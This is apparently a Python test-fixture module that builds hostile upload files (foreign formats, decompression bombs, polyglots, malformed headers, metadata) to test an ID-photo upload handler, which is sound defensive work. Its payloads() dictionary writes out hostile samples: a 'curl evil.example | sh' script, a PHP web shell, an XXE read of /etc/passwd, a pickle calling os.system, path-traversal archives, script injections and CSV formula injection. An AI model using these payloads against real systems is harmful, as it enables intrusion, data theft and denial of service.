"""Files that nobody should have to open: what strangers send as "photo of my ID" (faults.md K01, K03).

Nothing here knows Django: the processes that try these files start quickly.
"""

import gzip
import io
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache

from PIL import Image, ImageDraw, PngImagePlugin

#: Stands in everything that is planted. None of it may come out.
MARK = b"PLANTED-7c1e9a"
SCRIPT = b"<script>alert('" + MARK + b"')</script>"
JPEG, PNG = b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n"


@dataclass(frozen=True, slots=True)
class Case:
    """`ends`: "refused", "taken", or "either" where both are right so long as nothing else happens."""

    name: str
    raw: bytes
    ends: str


def cases() -> list[Case]:
    made = [
        *foreign(),
        *begun_as_a_photo(),
        *truncated(),
        *dimensions(),
        *bombs(),
        *polyglots(),
        *metadata(),
        *kinds(),
    ]
    assert len({case.name for case in made}) == len(made)
    return made


# --- pieces ---------------------------------------------------------------------------------------


def drawn(size: tuple[int, int] = (420, 320), mode: str = "RGB") -> Image.Image:
    image = Image.radial_gradient("L").resize(size).convert("RGB")
    draw = ImageDraw.Draw(image)
    for at in range(0, size[0], 20):
        draw.line((at, 0, size[0] - at, size[1]), fill=(at % 256, 90, 200), width=3)
    return image.convert(mode)


def saved(image: Image.Image, kind: str, **options) -> bytes:
    file = io.BytesIO()
    image.save(file, kind, **options)
    return file.getvalue()


def segment(marker: int, body: bytes) -> bytes:
    return bytes((0xFF, marker)) + struct.pack(">H", len(body) + 2) + body


def with_segments(jpeg: bytes, *segments: bytes) -> bytes:
    return jpeg[:2] + b"".join(segments) + jpeg[2:]


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def header(width: int, height: int, depth: int = 8, color: int = 2, interlace: int = 0) -> bytes:
    return chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, interlace))


def with_chunks(png: bytes, *chunks: bytes) -> bytes:
    """After the header, which is 25 bytes long."""
    return png[:33] + b"".join(chunks) + png[33:]


def png(width: int, height: int, rows: bytes, **options: int) -> bytes:
    return (
        PNG + header(width, height, **options) + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b"")
    )


@cache
def zeros(count: int) -> bytes:
    """So many zero bytes, compressed, without ever holding them."""
    packer, out = zlib.compressobj(1), bytearray()
    block = bytes(1 << 20)
    while count > 0:
        out += packer.compress(block[:count])
        count -= len(block)
    return bytes(out + packer.flush())


def archive() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as made:
        made.writestr("../../evil.sh", MARK)
    return file.getvalue()


def tar() -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as made:
        made.addfile(tarfile.TarInfo("../evil"), io.BytesIO())
    return file.getvalue()


def payloads() -> dict[str, bytes]:
    """What is no picture of the kinds that we read."""
    small = drawn()
    animation = [drawn(mode="P"), Image.new("P", (420, 320))]
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400">' + SCRIPT + b"</svg>"
    entities = b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
    return {
        "svg": svg,
        "svg-xml": b'<?xml version="1.0"?>' + svg,
        "svg-bom": b"\xef\xbb\xbf" + svg,
        "svg-gz": gzip.compress(svg, mtime=0),
        "svg-onload": b"<svg onload=alert(1)//" + MARK,
        "html": b"<!doctype html><html><body>" + SCRIPT,
        "html-blank": b"\n \t<html>" + SCRIPT,
        "html-base": b"<base href=//evil.example>" + MARK,
        "js": b"alert(document.cookie)//" + MARK,
        "js-module": b"import('//evil.example/" + MARK + b"')",
        "xml-entity": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>',
        "xml-laughs": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "ha">' + entities + b"]><a>&a9;</a>",
        "xslt": b'<?xml version="1.0"?><xsl:stylesheet version="1.0"/>',
        "mathml": b"<math><mtext>" + SCRIPT,
        "pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF",
        "pdf-late": b"\n" * 900 + b"%PDF-1.4\n%%EOF",
        "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 400 400\n(/etc/passwd) (r) file\n",
        "eicar": rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-" + b"FILE!$H+H*",
        "gif": saved(small.convert("P"), "GIF"),
        "gif-moving": saved(animation[0], "GIF", save_all=True, append_images=animation[1:]),
        "gif-js": b"GIF89a=1;alert(1);//" + MARK,
        "webp": saved(small, "WEBP"),
        "webp-lossless": saved(small, "WEBP", lossless=True),
        "avif": saved(small, "AVIF"),
        "tiff": saved(small, "TIFF"),
        "tiff-deflate": saved(small, "TIFF", compression="tiff_deflate"),
        "bmp": saved(small, "BMP"),
        "ico": saved(small, "ICO"),
        "icns": saved(drawn((512, 512), "RGBA"), "ICNS"),
        "ppm": saved(small, "PPM"),
        "tga": saved(small, "TGA"),
        "pcx": saved(small, "PCX"),
        "sgi": saved(small, "SGI"),
        "dds": saved(small, "DDS"),
        "jpeg2000": saved(small, "JPEG2000"),
        "fits": b"SIMPLE  =                    T".ljust(80) + b"NAXIS   =                    2".ljust(2800),
        "psd": b"8BPS\0\1" + bytes(20),
        "wmf": b"\xd7\xcd\xc6\x9a" + bytes(80),
        "flif": b"FLIF31" + bytes(60),
        "jxl": b"\xff\x0a" + bytes(60),
        "heic": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(400),
        "heif-burst": b"\0\0\0\x18ftypmsf1\0\0\0\0msf1hevc" + bytes(400),
        "mp4": b"\0\0\0\x18ftypisom\0\0\2\0isomiso2" + bytes(400),
        "mov": b"\0\0\0\x14ftypqt  \0\0\0\0qt  " + bytes(400),
        "zip": archive(),
        "tar": tar(),
        "gzip": gzip.compress(bytes(100_000), mtime=0),
        "elf": b"\x7fELF\2\1\1" + bytes(60),
        "exe": b"MZ\x90\0" + bytes(60),
        "php": b"<?php system($_GET['" + MARK + b"']); ?>",
        "shell": b"#!/bin/sh\ncurl evil.example | sh\n",
        "pickle": b"\x80\x04cos\nsystem\n(S'id'\ntR.",
        "mvg": b"push graphic-context\nimage over 0,0 0,0 'https://evil.example/x'\n",
        "csv": b"=cmd|' /C calc'!A0\n",
        "nul": bytes(5000),
        "spaces": b" " * 5000,
        "ones": b"\xff" * 5000,
    }


# --- what is no photo -----------------------------------------------------------------------------


def foreign() -> Iterator[Case]:
    for name, raw in payloads().items():
        yield Case(f"foreign/{name}", raw, "refused")
    yield Case("foreign/empty", b"", "refused")
    yield Case("foreign/too-large", saved(drawn(), "JPEG") + bytes(10_000_000), "refused")
    dice = random.Random(1)
    for number in range(8):
        yield Case(f"foreign/random-{number}", dice.randbytes(4000), "refused")


def begun_as_a_photo() -> Iterator[Case]:
    """The right first bytes, and then something else."""
    for name, raw in payloads().items():
        yield Case(f"begun/jpeg-{name}", JPEG + raw, "refused")
        yield Case(f"begun/png-{name}", PNG + raw, "refused")


def truncated() -> Iterator[Case]:
    files = {
        "jpeg": saved(drawn(), "JPEG"),
        "progressive": saved(drawn(), "JPEG", progressive=True),
        "png": saved(drawn(), "PNG"),
    }
    for name, raw in files.items():
        for part in range(1, 20):
            yield Case(f"truncated/{name}-{part}-of-20", raw[: len(raw) * part // 20], "refused")
        for at in (1, 2, 3, 4, 8, 9, 20):
            yield Case(f"truncated/{name}-{at}-bytes", raw[:at], "refused")
        yield Case(f"truncated/{name}-without-its-end", raw[:-2], "either")


# --- too much of something ------------------------------------------------------------------------


def dimensions() -> Iterator[Case]:
    good = saved(drawn(), "PNG")
    rest = good[33:]
    for width, height in (
        *(
            (65_535, 65_535),
            (2**31 - 1, 1),
            (1, 2**31 - 1),
            (2**31 - 1, 2**31 - 1),
            (0, 0),
            (0, 400),
            (400, 0),
        ),
        *((30_000, 30_000), (100_000, 300), (2**32 - 1, 2**32 - 1), (6001, 4000), (299, 400), (420, 100_000)),
    ):
        yield Case(f"dimensions/png-{width}x{height}", PNG + header(width, height) + rest, "refused")
    jpeg = saved(drawn(), "JPEG")
    at = jpeg.index(b"\xff\xc0") + 5
    for height, width in (
        (65_535, 65_535),
        (0, 0),
        (0, 420),
        (65_500, 400),
        (1, 65_535),
        (8000, 8000),
        (4001, 6000),
    ):
        raw = jpeg[:at] + struct.pack(">HH", height, width) + jpeg[at + 4 :]
        yield Case(f"dimensions/jpeg-{width}x{height}", raw, "refused")
    # More rows than there is data for, within what we would take.
    raw = jpeg[:at] + struct.pack(">HH", 4000, 5000) + jpeg[at + 4 :]
    yield Case("dimensions/jpeg-more-than-it-has", raw, "either")
    for width, height in ((1, 1), (1, 3000), (3000, 1), (299, 299), (300, 299)):
        yield Case(
            f"dimensions/real-{width}x{height}.png",
            saved(Image.new("RGB", (width, height)), "PNG"),
            "refused",
        )
        yield Case(
            f"dimensions/real-{width}x{height}.jpeg",
            saved(Image.new("RGB", (width, height)), "JPEG"),
            "refused",
        )


def bombs() -> Iterator[Case]:
    end = chunk(b"IEND", b"")
    huge = chunk(b"IDAT", zeros(24_000 * 3001))
    yield Case(
        "bomb/png-576-megapixels", PNG + header(24_000, 24_000, depth=1, color=0) + huge + end, "refused"
    )
    # A small picture by its header, and a hundred million bytes behind it.
    much = chunk(b"IDAT", zeros(100_000_000))
    yield Case("bomb/png-more-than-its-header", PNG + header(400, 400) + much + end, "either")
    yield Case(
        "bomb/png-largest-that-we-take",
        PNG + header(6000, 4000) + chunk(b"IDAT", zeros(18_001 * 4000)) + end,
        "taken",
    )
    rgba = chunk(b"IDAT", zeros(24_001 * 4000))
    yield Case("bomb/png-largest-with-alpha", PNG + header(6000, 4000, color=6) + rgba + end, "either")
    deep = chunk(b"IDAT", zeros(48_001 * 4000))
    yield Case(
        "bomb/png-largest-and-deep", PNG + header(6000, 4000, depth=16, color=6) + deep + end, "either"
    )
    laced = chunk(b"IDAT", zeros(18_001 * 4000 * 2))
    yield Case("bomb/png-largest-interlaced", PNG + header(6000, 4000, interlace=1) + laced + end, "either")
    plain = saved(drawn(), "PNG")
    text = b"Comment\0\0" + zeros(100_000_000)
    yield Case("bomb/png-ztxt", with_chunks(plain, chunk(b"zTXt", text)), "either")
    itxt = b"XML:com.adobe.xmp\0\1\0\0\0" + zeros(100_000_000)
    yield Case("bomb/png-itxt", with_chunks(plain, chunk(b"iTXt", itxt)), "either")
    yield Case("bomb/png-iccp", with_chunks(plain, chunk(b"iCCP", b"p\0\0" + zeros(100_000_000))), "either")
    many = chunk(b"zTXt", b"Comment\0\0" + zeros(1_000_000)) * 100
    yield Case("bomb/png-many-ztxt", with_chunks(plain, many), "either")
    yield Case("bomb/png-many-chunks", with_chunks(plain, chunk(b"teSt", b"") * 700_000), "either")
    yield Case("bomb/png-many-small-idat", in_many_pieces(plain), "either")
    yield Case("bomb/png-chunk-too-long", with_chunks(plain, b"\x7f\xff\xff\xfftEXt" + MARK), "refused")
    yield Case("bomb/png-idat-too-long", plain[:33] + b"\x7f\xff\xff\xffIDAT" + plain[41:], "either")
    yield Case("bomb/png-palette-too-long", with_chunks(plain, chunk(b"PLTE", bytes(9_000_000))), "either")
    jpeg = saved(drawn(), "JPEG")
    yield Case("bomb/jpeg-many-segments", with_segments(jpeg, segment(0xE5, b"") * 2_400_000), "either")
    yield Case("bomb/jpeg-many-comments", with_segments(jpeg, segment(0xFE, MARK * 4000) * 150), "either")
    yield Case(
        "bomb/jpeg-many-icc",
        with_segments(jpeg, segment(0xE2, b"ICC_PROFILE\0\1\2" + bytes(60_000)) * 150),
        "either",
    )
    yield Case(
        "bomb/jpeg-many-tables", with_segments(jpeg, segment(0xDB, b"\0" + b"\1" * 64) * 100_000), "either"
    )
    yield Case("bomb/jpeg-filled-with-ff", jpeg[:2] + b"\xff" * 9_000_000 + jpeg[2:], "either")
    yield Case("bomb/jpeg-many-scans", many_scans(), "either")
    yield Case("bomb/jpeg-restarts", jpeg[:-2] + b"\xff\xd0" * 4_000_000, "either")
    noise = Image.effect_noise((2900, 2900), 90).convert("RGB")
    yield Case("bomb/jpeg-noise-progressive", saved(noise, "JPEG", quality=90, progressive=True), "taken")
    large = Image.linear_gradient("L").resize((6000, 4000)).convert("RGB")
    options = {"quality": 70, "progressive": True, "subsampling": 0}
    yield Case("bomb/jpeg-largest-that-we-take", saved(large, "JPEG", **options), "taken")
    yield Case("bomb/jpeg-largest-cmyk", saved(large.convert("CMYK"), "JPEG", quality=70), "taken")


def in_many_pieces(plain: bytes) -> bytes:
    at = plain.index(b"IDAT")
    body = plain[at + 4 : at + 4 + struct.unpack(">I", plain[at - 4 : at])[0]]
    pieces = b"".join(chunk(b"IDAT", body[n : n + 1]) + chunk(b"IDAT", b"") * 3 for n in range(len(body)))
    return PNG + plain[8:33] + pieces + chunk(b"IEND", b"")


def many_scans() -> bytes:
    """A progressive photo of nine million pixels that refines the same numbers two thousand times."""
    jpeg = saved(Image.new("RGB", (3000, 3000), "gray"), "JPEG", progressive=True)
    last = jpeg.rindex(b"\xff\xda")
    return jpeg[:last] + jpeg[last:-2] * (9_000_000 // len(jpeg[last:-2])) + b"\xff\xd9"


# --- a photo, and more ----------------------------------------------------------------------------


def polyglots() -> Iterator[Case]:
    jpeg, plain = saved(drawn(), "JPEG"), saved(drawn(), "PNG")
    for name, raw in payloads().items():
        if name in {
            "html",
            "js",
            "svg",
            "zip",
            "tar",
            "pdf",
            "php",
            "elf",
            "exe",
            "gif-js",
            "eicar",
            "shell",
            "xml-laughs",
        }:
            yield Case(f"polyglot/jpeg-then-{name}", jpeg + MARK + raw, "taken")
            yield Case(f"polyglot/png-then-{name}", plain + MARK + raw, "taken")
            yield Case(
                f"polyglot/jpeg-comment-{name}", with_segments(jpeg, segment(0xFE, MARK + raw)), "taken"
            )
            yield Case(f"polyglot/png-chunk-{name}", with_chunks(plain, chunk(b"teSt", MARK + raw)), "taken")
    # A script that is a photo: the first segment's length spells the beginning of a comment.
    script = (
        b"\xff\xe0\x2f\x2a"
        + b"JFIF\0\1\1\0\0\1\0\1\0\0"
        + bytes(0x2F2A - 16)
        + segment(0xFE, b"*/=alert(1);/*" + MARK)
    )
    yield Case("polyglot/jpeg-script", JPEG[:2] + script + jpeg[2:], "taken")
    yield Case("polyglot/two-photos", jpeg + jpeg, "taken")
    yield Case("polyglot/jpeg-then-png", jpeg + plain, "taken")
    yield Case(
        "polyglot/png-in-its-pixels",
        saved(Image.frombytes("RGB", (400, 400), (SCRIPT * 20_000)[:480_000]), "PNG"),
        "taken",
    )


def exif(**entries) -> bytes:
    made = Image.Exif()
    made[0x010F], made[0x0110], made[0x0131] = "Maker " + MARK.decode(), "Model", "Software"
    made[0x9286] = MARK
    gps = made.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4], gps[29] = "S", (1.0, 17.0, 11.0), "E", (36.0, 49.0, 2.0), MARK.decode()
    for tag, value in entries.items():
        made[int(tag[1:])] = value
    return made.tobytes()


def metadata() -> Iterator[Case]:
    """Good photos that tell where and by whom they were taken."""
    image = drawn()
    jpeg, plain = saved(image, "JPEG"), saved(image, "PNG")
    for turn in (*range(1, 9), 0, 9, 65_535):
        yield Case(f"metadata/jpeg-turned-{turn}", saved(image, "JPEG", exif=exif(t274=turn)), "taken")
    for turn in range(1, 9):
        yield Case(f"metadata/png-turned-{turn}", saved(image, "PNG", exif=exif(t274=turn)), "taken")
    xmp = b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta tiff:Orientation='6'>" + MARK + b"</x:xmpmeta>"
    parts = {
        "xmp": segment(0xE1, xmp),
        "xmp-extended": segment(0xE1, b"http://ns.adobe.com/xmp/extension/\0" + MARK * 100),
        "icc": segment(0xE2, b"ICC_PROFILE\0\1\1" + MARK * 30),
        "mpf": segment(0xE2, b"MPF\0II*\0\x08\0\0\0\0\0" + MARK),
        "flashpix": segment(0xE2, b"FPXR\0" + MARK),
        "iptc": segment(0xED, b"Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x0e" + MARK),
        "comment": segment(0xFE, MARK),
        "content-credentials": segment(0xEB, b"JP\0\1\0\0\0\1" + MARK),
        "adobe": segment(0xEE, b"Adobe\0d\0\0\0\0\1"),
        "ducky": segment(0xEC, b"Ducky" + MARK),
        "jfxx": segment(0xE0, b"JFXX\0\x10" + MARK),
        "exif-broken": segment(0xE1, b"Exif\0\0II*\0\xff\xff\xff\x7f" + MARK),
        "exif-loop": segment(0xE1, b"Exif\0\0II*\0\x08\0\0\0\0\0\x08\0\0\0" + MARK),
        "exif-huge-count": segment(
            0xE1, b"Exif\0\0II*\0\x08\0\0\0\1\0\x12\1\3\0\xff\xff\xff\xff\6\0\0\0\0\0\0\0"
        ),
        "exif-twice": segment(0xE1, exif()) * 2,
        "exif-empty": segment(0xE1, b"Exif\0\0"),
    }
    parts |= {f"app{number}": segment(0xE0 + number, MARK) for number in range(16)}
    for name, one in parts.items():
        yield Case(f"metadata/jpeg-{name}", with_segments(jpeg, one), "taken")
    yield Case("metadata/jpeg-everything", with_segments(jpeg, *parts.values()), "taken")
    yield Case("metadata/jpeg-dpi", saved(image, "JPEG", dpi=(300, 300), comment=MARK), "taken")
    frames = {"save_all": True, "append_images": [Image.new("RGB", (420, 320))]}
    yield Case("metadata/jpeg-of-two", saved(image, "MPO", **frames), "taken")
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Author", MARK.decode())
    notes.add_text("Comment", MARK.decode(), zip=True)
    notes.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>" + MARK.decode())
    yield Case("metadata/png-texts", saved(image, "PNG", pnginfo=notes, dpi=(300, 300)), "taken")
    chunks = {
        "time": chunk(b"tIME", b"\7\xea\1\1\0\0\0"),
        "icc": chunk(b"iCCP", b"name\0\0" + zlib.compress(MARK * 30)),
        "exif": chunk(b"eXIf", exif()[6:]),
        "gamma": chunk(b"gAMA", struct.pack(">I", 45_455)),
        "offset": chunk(b"oFFs", bytes(9)),
        "private": chunk(b"prVt", MARK),
    }
    for name, one in chunks.items():
        yield Case(f"metadata/png-{name}", with_chunks(plain, one), "taken")
    yield Case(
        "metadata/png-after-its-pixels", plain[:-12] + chunk(b"tEXt", b"a\0" + MARK) + plain[-12:], "taken"
    )


def kinds() -> Iterator[Case]:
    """Every kind of pixel that the two formats know."""
    for mode in ("L", "RGB", "CMYK", "YCbCr"):
        yield Case(f"kind/jpeg-{mode}", saved(drawn(mode=mode), "JPEG"), "taken")
    for number, sampling in enumerate(("4:4:4", "4:2:2", "4:2:0")):
        yield Case(
            f"kind/jpeg-{number}",
            saved(drawn(), "JPEG", subsampling=sampling, progressive=bool(number)),
            "taken",
        )
    for mode in ("1", "L", "LA", "P", "RGB", "RGBA", "I;16"):
        image = Image.new("I;16", (420, 320), 40_000) if mode == "I;16" else drawn().convert(mode)
        yield Case(f"kind/png-{mode.replace(';', '-')}", saved(image, "PNG"), "taken")
    yield Case("kind/png-P-with-a-clear-colour", saved(drawn(mode="P"), "PNG", transparency=3), "taken")
    yield Case("kind/png-RGB-with-a-clear-colour", saved(drawn(), "PNG", transparency=(1, 2, 3)), "taken")
    for depth in (1, 2, 4):
        yield Case(
            f"kind/png-gray-{depth}",
            png(400, 400, bytes(50 * depth + 1) * 400, depth=depth, color=0),
            "taken",
        )
    for color, bytes_ in ((2, 6), (4, 4), (6, 8)):
        rows = (b"\0" + b"\x9c\x40" * (400 * bytes_ // 2)) * 400
        yield Case(f"kind/png-deep-{color}", png(400, 400, rows, depth=16, color=color), "taken")
    frames = {"save_all": True, "append_images": [Image.new("RGB", (420, 320))]}
    yield Case("kind/png-moving", saved(drawn(), "PNG", **frames), "refused")
    yield Case(
        "kind/png-moving-without-frames",
        with_chunks(saved(drawn(), "PNG"), chunk(b"acTL", struct.pack(">II", 9, 0))),
        "refused",
    )
    yield Case("kind/png-bad-depth", PNG + header(400, 400, depth=3) + saved(drawn(), "PNG")[33:], "refused")
    yield Case(
        "kind/png-no-palette",
        PNG + header(400, 400, color=3) + chunk(b"IDAT", zeros(401 * 400)) + chunk(b"IEND", b""),
        "either",
    )
    yield Case("kind/png-no-pixels", PNG + header(400, 400) + chunk(b"IEND", b""), "refused")
    yield Case("kind/png-two-headers", with_chunks(saved(drawn(), "PNG"), header(60_000, 60_000)), "refused")
    jpeg = saved(drawn(), "JPEG")
    at = jpeg.index(b"\xff\xc0")
    frame = jpeg[at : at + 19]
    yield Case(
        "kind/jpeg-two-frames", jpeg[:at] + frame[:5] + b"\x40\0\x40\0" + frame[9:] + jpeg[at:], "either"
    )
    yield Case("kind/jpeg-lossless", jpeg.replace(b"\xff\xc0", b"\xff\xc3", 1), "refused")
    yield Case("kind/jpeg-arithmetic", jpeg.replace(b"\xff\xc0", b"\xff\xc9", 1), "either")
    yield Case("kind/jpeg-twelve-bits", jpeg[: at + 4] + b"\x0c" + jpeg[at + 5 :], "refused")
    yield Case("kind/jpeg-no-scan", jpeg[: jpeg.index(b"\xff\xda")] + b"\xff\xd9", "refused")


# --- mutations ------------------------------------------------------------------------------------


def mutations(count: int, seed: int = 2026) -> list[Case]:
    """Good files with something broken in them."""
    dice = random.Random(seed)
    good = [
        saved(drawn(), "JPEG"),
        saved(drawn(), "JPEG", progressive=True),
        saved(drawn(), "JPEG", exif=exif(t274=6)),
        saved(drawn(), "PNG"),
        saved(drawn(mode="P"), "PNG"),
        saved(drawn(mode="RGBA"), "PNG"),
    ]
    changes = (_flip, _flip_head, _cut_out, _double, _insert, _extreme, _exchange)
    return [
        Case(f"mutation/{number}", changes[number % len(changes)](dice, good[number % len(good)]), "either")
        for number in range(count)
    ]


def _flip(dice: random.Random, raw: bytes) -> bytes:
    changed = bytearray(raw)
    for _ in range(dice.choice((1, 3, 10, 60))):
        changed[dice.randrange(3, len(raw))] ^= 1 << dice.randrange(8)
    return bytes(changed)


def _flip_head(dice: random.Random, raw: bytes) -> bytes:
    return _flip(dice, raw[:700]) + raw[700:]


def _cut_out(dice: random.Random, raw: bytes) -> bytes:
    at = dice.randrange(3, len(raw))
    return raw[:at] + raw[at + dice.randrange(1, 400) :]


def _double(dice: random.Random, raw: bytes) -> bytes:
    at = dice.randrange(3, len(raw))
    return raw[:at] + raw[max(3, at - dice.randrange(1, 2000)) :]


def _insert(dice: random.Random, raw: bytes) -> bytes:
    at = dice.randrange(3, len(raw))
    return raw[:at] + dice.randbytes(dice.randrange(1, 300)) + raw[at:]


def _extreme(dice: random.Random, raw: bytes) -> bytes:
    at = dice.randrange(8, 400)
    word = dice.choice(
        (b"\0\0", b"\xff\xff", b"\x7f\xff", b"\x80\0", b"\0\0\0\0", b"\xff\xff\xff\xff", b"\x7f\xff\xff\xff")
    )
    return raw[:at] + word + raw[at + len(word) :]


def _exchange(dice: random.Random, raw: bytes) -> bytes:
    one, other = sorted(dice.sample(range(8, len(raw) - 100), 2))
    size = dice.randrange(1, 100)
    changed = bytearray(raw)
    changed[one : one + size], changed[other : other + size] = (
        raw[other : other + size],
        raw[one : one + size],
    )
    return bytes(changed)
